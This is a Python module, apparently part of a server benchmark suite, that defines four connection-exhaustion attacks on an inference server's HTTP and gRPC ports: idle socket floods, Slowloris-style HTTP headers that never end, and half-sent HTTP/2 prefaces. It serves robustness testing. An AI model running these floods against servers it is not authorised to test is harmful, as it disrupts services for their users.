"""Connections that cost the server without asking anything: idle sockets, heads that never end."""

from __future__ import annotations

import socket
import time
from typing import Any

from ray_triton_shm._private.bench.attacks import wire
from ray_triton_shm._private.bench.attacks.catalog import Attack, count, hold
from ray_triton_shm._private.bench.attacks.wire import Target

IDLE = 800
HALF_OPEN = 200


def _open(host: str, port: int, n: int, until: float, first: bytes = b"") -> tuple[list[socket.socket], int]:
    """Up to ``n`` connections to ``host:port`` (each sending ``first``), stopping at ``until`` or
    after 20 failed connects; (the sockets, the failed connects)."""
    wire.raise_fd_limit(n + 512)
    sockets: list[socket.socket] = []
    failed = 0
    while len(sockets) < n and failed < 20 and time.monotonic() < until:
        try:
            s = wire.connect(host, port, timeout=1.0)
        except OSError:
            failed += 1
            continue
        sockets.append(s)
        if first:
            wire.send_quietly(s, first)
    return sockets, failed


def _idle(target: Target, port: int, until: float, scale: float) -> dict[str, Any]:
    sockets, failed = _open(target.host, port, count(IDLE, scale), until)
    try:
        hold(until)
        closed = sum(wire.closed_by_peer(s) for s in sockets)
        return {"sockets": len(sockets), "failed connects": failed, "closed by server": closed}
    finally:
        wire.close_all(sockets)


def http_idle_sockets(target: Target, until: float, scale: float) -> dict[str, Any]:
    """800 connections to the HTTP port that send nothing."""
    return _idle(target, target.http_port, until, scale)


def grpc_idle_sockets(target: Target, until: float, scale: float) -> dict[str, Any]:
    """800 connections to the gRPC port that send nothing."""
    return _idle(target, target.grpc_port, until, scale)


def http_half_open_heads(target: Target, until: float, scale: float) -> dict[str, Any]:
    """200 HTTP heads that stop before their blank line, then a header line every second."""
    first = b"POST /v2/models/identity/infer HTTP/1.1\r\nHost: x\r\n"
    sockets, failed = _open(target.host, target.http_port, count(HALF_OPEN, scale), until, first)
    closed: set[int] = set()
    try:
        i = 0
        while time.monotonic() < until:
            for j, s in enumerate(sockets):
                if j not in closed and not wire.send_quietly(s, b"X-%d: %d\r\n" % (i, i)):
                    closed.add(j)
            i += 1
            hold(min(until, time.monotonic() + 1.0))
        return {"sockets": len(sockets), "failed connects": failed, "closed by server": len(closed)}
    finally:
        wire.close_all(sockets)


def grpc_half_open_prefaces(target: Target, until: float, scale: float) -> dict[str, Any]:
    """200 HTTP/2 connections that send half the connection preface, then nothing."""
    sockets, failed = _open(
        target.host, target.grpc_port, count(HALF_OPEN, scale), until, wire.H2_PREFACE[:12]
    )
    try:
        hold(until)
        closed = sum(wire.closed_by_peer(s) for s in sockets)
        return {"sockets": len(sockets), "failed connects": failed, "closed by server": closed}
    finally:
        wire.close_all(sockets)


ATTACKS = (
    Attack(
        name="http-idle-sockets",
        kind="connections",
        protocol="http",
        run=http_idle_sockets,
        summary="800 idle connections to the HTTP port",
    ),
    Attack(
        name="grpc-idle-sockets",
        kind="connections",
        protocol="grpc",
        run=grpc_idle_sockets,
        summary="800 idle connections to the gRPC port",
    ),
    Attack(
        name="http-half-open-heads",
        kind="connections",
        protocol="http",
        run=http_half_open_heads,
        summary="200 HTTP heads that never end (a header line a second)",
    ),
    Attack(
        name="grpc-half-open-prefaces",
        kind="connections",
        protocol="grpc",
        run=grpc_half_open_prefaces,
        summary="200 connections sending half the HTTP/2 preface",
    ),
)
